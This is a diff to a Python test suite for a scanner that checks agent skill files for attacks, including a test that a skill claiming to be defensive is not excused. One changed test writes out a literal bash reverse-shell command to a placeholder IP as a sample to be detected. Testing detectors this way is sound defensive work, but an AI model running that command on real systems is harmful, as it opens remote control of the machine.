@@ -11,7 +11,7 @@ from registry.document.security import (
     check_file,
     check_security,
 )
-from tests.document.attacks.samples import HARMLESS, QUOTED, SAMPLES
+from tests.document.attacks.samples import DISGUISED, HARMLESS, QUOTED, SAMPLES
 from tests.document.attacks.unseen import UNSEEN
 
 MARK = "#file:"
@@ -64,6 +64,11 @@ def test_an_attack_that_is_quoted_is_only_noted(name, description, text):
     findings = check(text, name, description)
     assert findings
     assert {finding.severity for finding in findings} == {"info"}
+
+
+@pytest.mark.parametrize("text", DISGUISED)
+def test_a_claim_to_be_about_defence_excuses_nothing_that_is_asked_for(text):
+    assert graves(check(text, "skill-guard", "Security: protects agents from malicious skills."))
 
 
 def test_the_same_words_without_the_topic_are_an_attack():
@@ -137,10 +142,11 @@ def test_what_an_interpreter_or_a_model_would_read_is_checked(path, data, found)
 
 
 def test_a_skill_about_defence_may_quote_attacks_in_its_texts_and_not_run_them():
-    [quoted] = in_file("a.md", ATTACK.encode(), defending=True)
+    shell = b"bash -i >& /dev/tcp/192.0.2.1/1 0>&1\n"
+    [quoted] = in_file("a.md", shell, defending=True)
     assert quoted.severity == "info"
-    [run] = in_file("a.sh", ATTACK.encode(), defending=True)
-    assert run.severity == in_file("a.sh", ATTACK.encode(), defending=False)[0].severity != "info"
+    [run] = in_file("a.sh", shell, defending=True)
+    assert run.severity == in_file("a.sh", shell, defending=False)[0].severity != "info"
 
 
 def test_so_many_bytes_of_a_skill_are_looked_through():
